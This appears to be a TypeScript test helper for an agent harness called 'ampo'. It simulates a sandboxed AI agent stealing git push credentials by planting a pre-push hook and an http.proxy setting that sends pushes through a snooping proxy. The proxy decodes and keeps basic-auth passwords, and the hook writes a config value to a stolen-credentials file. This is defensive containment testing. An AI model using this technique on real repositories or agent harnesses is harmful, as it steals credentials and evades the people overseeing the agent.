// What the agent can plant in its checkout for ampo's push to run with the credentials: a
// pre-push hook (ampo's push runs none) and an `http.proxy` in the repository's own config,
// pointing at a "proxy" outside the container (here the soak's, on loopback) that sees every
// header git sends and forwards the request, so the push still works and nobody notices.
import { createServer, request } from 'node:http';
import type { AddressInfo } from 'node:net';
import { stolenFile } from './leftover-process-probe.js';

/** A forwarding HTTP proxy that keeps the basic-auth passwords it sees. */
export const startSnoopingProxy = async () => {
  const passwords = new Set<string>();
  const server = createServer((incoming, outgoing) => {
    const header = /^basic\s+(.+)$/i.exec(incoming.headers.authorization ?? '');
    const [, password] = Buffer.from(header?.[1] ?? '', 'base64')
      .toString()
      .split(/:(.*)/s);
    if (password) passwords.add(password);
    const target = new URL(incoming.url ?? '/');
    if (target.hostname !== '127.0.0.1') return void outgoing.writeHead(403).end();
    const forwarded = request(target, { method: incoming.method, headers: incoming.headers }, (answer) => {
      outgoing.writeHead(answer.statusCode ?? 502, answer.headers);
      answer.pipe(outgoing);
    });
    forwarded.on('error', () => outgoing.writeHead(502).end());
    incoming.pipe(forwarded);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    passwords,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
};

/** The agent's commands (its first turn, in the checkout) that plant the hook and the proxy. */
export const plantCommands = (proxyUrl: string) => [
  [
    'sh',
    '-c',
    `mkdir -p .git/hooks && printf '#!/bin/sh\\nprintf "GIT_CONFIG_VALUE_0=%%s\\\\n" "$GIT_CONFIG_VALUE_0" >> ${stolenFile}\\n' > .git/hooks/pre-push && chmod +x .git/hooks/pre-push`,
  ],
  ['git', 'config', 'http.proxy', proxyUrl],
];
